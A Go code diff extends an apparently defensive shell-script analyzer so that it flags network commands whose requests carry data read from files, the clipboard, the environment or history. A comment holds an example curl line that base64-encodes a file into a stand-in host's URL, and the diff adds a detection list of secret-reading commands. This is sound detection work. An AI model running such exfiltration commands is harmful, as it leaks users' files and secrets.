@@ -383,6 +383,9 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, knownArgs
 		// Whatever it sends can carry what the script read.
 		if netTools[name] {
 			a.egress("network", sp, "%s: sends data over the network", name)
+			if a.readInto(c.args) {
+				c.add(effect.Of(effect.Upload), "request-exfil", "%s: what a command read (a file, a listing, the clipboard, the environment) goes into the address or headers it sends", name)
+			}
 		} else {
 			a.egress("dns", sp, "%s: looks up a computed name, which carries data out in the query", name)
 			if a.printedInto(c.args) {
@@ -519,6 +522,39 @@ func (a *shellAn) printedInto(ws []word) bool {
 		}
 	}
 	return false
+}
+
+// readInto reports a word that holds the output of a command that prints
+// data it read (dataReaders): curl "https://x/?d=$(base64 < notes.txt)"
+// sends the file, where "$(uname -m)" or "$(date +%F)" in a download's
+// address sends nothing of the person's.
+func (a *shellAn) readInto(ws []word) bool {
+	for _, w := range ws {
+		t := a.srcText(w.span)
+		if !w.hole || !strings.Contains(t, "$(") && !strings.Contains(t, "`") {
+			continue
+		}
+		// The first command of each pipeline is where the data comes from:
+		// $(git remote get-url origin | cut -d/ -f4) reads nothing of the
+		// person's, $(cat notes.txt | base64) does.
+		for _, seg := range strings.FieldsFunc(t, func(r rune) bool { return strings.ContainsRune("$(`;&\n", r) }) {
+			seg, _, _ = strings.Cut(seg, "|")
+			if f := strings.Fields(seg); len(f) > 0 && (dataReaders[commandName(strings.Trim(f[0], `"'{}`))] || strings.HasPrefix(f[0], "<")) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// dataReaders print what they read: files, folders' listings, the
+// clipboard, the environment, the history, settings.
+var dataReaders = map[string]bool{
+	"cat": true, "head": true, "tail": true, "base64": true, "xxd": true, "od": true, "hexdump": true, "strings": true,
+	"ls": true, "find": true, "tar": true, "zip": true, "gzip": true, "pbpaste": true, "env": true, "printenv": true,
+	"history": true, "sed": true, "awk": true, "grep": true, "cut": true, "sort": true, "tr": true, "jq": true,
+	"plutil": true, "defaults": true, "sqlite3": true, "mdfind": true, "tac": true, "nl": true, "column": true,
+	"openssl": true, "gpg": true, "security": true, "textutil": true, "uuencode": true, "bzip2": true, "xz": true,
 }
 
 // noPathRead lists commands whose operands are not file contents they read.
